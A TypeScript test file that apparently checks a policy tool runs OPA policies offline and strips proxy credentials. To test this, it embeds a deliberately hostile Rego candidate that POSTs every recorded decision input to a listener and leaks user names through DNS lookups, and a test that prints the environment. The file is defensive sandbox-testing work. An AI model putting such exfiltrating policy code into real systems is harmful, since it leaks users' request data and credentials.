import { mkdtemp, readdir, rm } from "node:fs/promises";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.ts";
import { createRepo, type TempRepo } from "../helpers/git-repo.ts";
import { type Listening, listen } from "../helpers/serve.ts";

/**
 * Policies under review (a PR's candidate in impact, the repository's own tests) run with opa unable to
 * reach the network and without the proxy settings, which often carry a password. A real loopback listener
 * counts every request opa could send.
 */

let listener: Listening;
let received: string[] = [];
let repo: TempRepo;
let revision: string;

const BASE = 'package authz\n\ndefault allow := false\n\nallow if input.user == "alice"\n';
const PROXY = "http://proxy-user:proxy-sentinel-password@127.0.0.1:9/";

function recorded(id: string, user: string, result: boolean) {
  return JSON.stringify({
    decision_id: id,
    path: "authz/allow",
    input: { user, request: { http: { method: "GET", path: `/orders/${id}` } } },
    result,
    bundles: { authz: { revision } },
  });
}

beforeAll(async () => {
  listener = await listen(
    http.createServer((request, response) => {
      let body = "";
      request.on("data", (chunk) => {
        body += chunk;
      });
      request.on("end", () => {
        received.push(`${request.method} ${request.url} ${body}`);
        response.end("{}");
      });
    }),
  );
  repo = await createRepo();
  await repo.write("policies/authz.rego", BASE);
  revision = repo.commit("alice may");
  const built = await runCli(["build"], { cwd: repo.dir });
  expect(built.exitCode, built.stderr).toBe(0);
  await repo.write(
    "decisions.ndjson",
    `${[recorded("1", "alice", true), recorded("2", "bob", false), recorded("3", "alice", true)].join("\n")}\n`,
  );
  // The candidate of the finding: it posts every input to a host of its choosing, and looks up a name.
  await repo.write(
    "pr/policies/authz.rego",
    `package authz\n\nallow if {\n\tr := http.send({"method": "POST", "url": "${listener.url}/x", "body": {"in": input}})\n\tr.status_code == 999\n}\n\nallow if {\n\tnet.lookup_ip_addr(sprintf("%s.localhost", [input.user]))\n\tfalse\n}\n`,
  );
}, 120_000);

afterAll(async () => {
  await listener?.close();
});

describe("impact: the candidate cannot send the recorded inputs anywhere", () => {
  it("an http.send of every input sends nothing, and each decision it makes undefined is reported", async () => {
    received = [];
    // A temp directory of this run's own, so other runs' files cannot blur what it leaves behind.
    const tmp = await mkdtemp(path.join(os.tmpdir(), "policyship-offline-tmp-"));
    const result = await runCli(
      ["impact", "--decisions", "decisions.ndjson", "--candidate-dir", "pr", "--show-results", "--json"],
      { cwd: repo.dir, env: { HTTPS_PROXY: PROXY, HTTP_PROXY: PROXY, TMPDIR: tmp }, timeoutMs: 120_000 },
    );
    expect(result.exitCode, result.stderr).toBe(0);
    expect(received).toEqual([]);
    const report = JSON.parse(result.stdout);
    // Refused the host, the candidate's rules are undefined: Kong's 500, an error outcome for all three.
    expect(report).toMatchObject({ replayed: 3, changed: 3, drift: 0, flips: { to_error: 3 } });
    expect(report.examples[0].candidate).toMatchObject({ outcome: "error" });
    expect(result.stdout + result.stderr).not.toContain("proxy-sentinel-password");
    // The capabilities file lived in a private directory of its own, removed when impact ended.
    expect(await readdir(tmp)).toEqual([]);
    await rm(tmp, { recursive: true, force: true });
  }, 180_000);
});

describe("test: the repository's tests run offline and without the proxy settings", () => {
  it("opa.runtime().env shows no proxy variable even when HTTPS_PROXY and https_proxy are set", async () => {
    const tests = await createRepo();
    await tests.write("policies/authz.rego", BASE);
    // Fails on purpose so its printed environment is shown.
    await tests.write(
      "policies/env_test.rego",
      "package authz_test\n\ntest_environment if {\n\tprint(opa.runtime().env)\n\tfalse\n}\n",
    );
    tests.commit("a test that shows opa's environment");
    const result = await runCli(["test", "--policies", "policies", "--json"], {
      cwd: tests.dir,
      env: {
        HTTPS_PROXY: PROXY,
        https_proxy: PROXY,
        HTTP_PROXY: PROXY,
        ALL_PROXY: PROXY,
        NO_PROXY: "internal",
      },
    });
    expect(result.exitCode, result.stderr).toBe(1);
    const [failure] = JSON.parse(result.stdout).failures;
    // opa's JSON report carries a test's printed output base64-encoded.
    const shown = Buffer.from(failure.message, "base64").toString("utf8");
    // The environment was printed (PATH is in it), and no proxy setting was.
    expect(shown).toContain("PATH");
    expect(shown).not.toMatch(/proxy-sentinel-password|_PROXY|_proxy/);
  }, 120_000);

  it("a test that calls http.send with the policies' data reaches no host; a mocked http.send still works", async () => {
    received = [];
    const tests = await createRepo();
    await tests.write("policies/authz.rego", BASE);
    await tests.write(
      "policies/send_test.rego",
      `package authz_test\n\ntest_sends if {\n\thttp.send({"method": "POST", "url": "${listener.url}/t", "body": {"from": "test"}})\n}\n\ntest_mocked if {\n\tr := http.send({"method": "GET", "url": "${listener.url}/m"}) with http.send as {"status_code": 200}\n\tr.status_code == 200\n}\n`,
    );
    tests.commit("a test that sends");
    const result = await runCli(["test", "--policies", "policies", "--json"], { cwd: tests.dir });
    expect(result.exitCode, result.stderr).toBe(1);
    expect(received).toEqual([]);
    const report = JSON.parse(result.stdout);
    expect(report).toMatchObject({ passed: 1, failed: 1 });
    expect(report.failures[0]).toMatchObject({ name: "test_sends" });
  }, 120_000);
});
